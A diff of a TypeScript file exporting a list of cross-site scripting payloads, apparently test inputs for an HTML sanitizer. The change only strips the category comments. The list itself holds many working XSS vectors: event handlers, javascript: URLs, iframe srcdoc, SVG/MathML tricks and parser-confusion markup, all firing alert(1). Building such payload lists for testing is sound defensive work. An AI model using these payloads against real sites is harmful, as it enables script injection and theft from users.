@@ -7,7 +7,6 @@ export const scriptPayloads: readonly string[] = [
   '"><script>alert(1)</script>',
   "'-alert(1)-'",
   '{{constructor.constructor("alert(1)")()}}',
-  // Event handlers.
   '<img src=x onerror=alert(1)>',
   '<img src=x onerror\n=\talert(1)//',
   '<img/src="x"/onerror=alert(1)>',
@@ -20,7 +19,6 @@ export const scriptPayloads: readonly string[] = [
   '<input autofocus onfocus=alert(1)>',
   '<marquee onstart=alert(1)>',
   '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="alert(1)">text</b>',
-  // Executable URLs.
   '<a href="javascript:alert(1)">link</a>',
   '<a href="JaVaScRiPt:alert(1)">link</a>',
   '<a href=" &#14; javascript:alert(1)">link</a>',
@@ -37,7 +35,6 @@ export const scriptPayloads: readonly string[] = [
   '<base href="javascript:/a/-alert(1)///">',
   '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
   '<area href="javascript:alert(1)">',
-  // Embedded documents.
   '<iframe src="javascript:alert(1)"></iframe>',
   '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
   '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>',
@@ -45,7 +42,6 @@ export const scriptPayloads: readonly string[] = [
   '<embed src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>">',
   '<template><script>alert(1)</script></template>',
   '<link rel=stylesheet href="data:text/css,*{background:url(javascript:alert(1))}">',
-  // SVG and MathML.
   '<svg onload=alert(1)>',
   '<svg><script>alert(1)</script></svg>',
   '<svg><script href="data:,alert(1)"/></svg>',
@@ -56,7 +52,6 @@ export const scriptPayloads: readonly string[] = [
   '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>#x"></svg>',
   '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">link</maction></math>',
   '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
-  // Markup that different parsers read differently.
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
   '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
@@ -70,7 +65,6 @@ export const scriptPayloads: readonly string[] = [
   '<!--><script>alert(1)</script>-->',
   '<!--[if true]><script>alert(1)</script><![endif]-->',
   '<?xml version="1.0"?><script>alert(1)</script>',
-  // Nested, broken and doubly encoded markup.
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
   '<<script>alert(1);//<</script>',
   '<img src="x` `<script>alert(1)</script>"` `>',
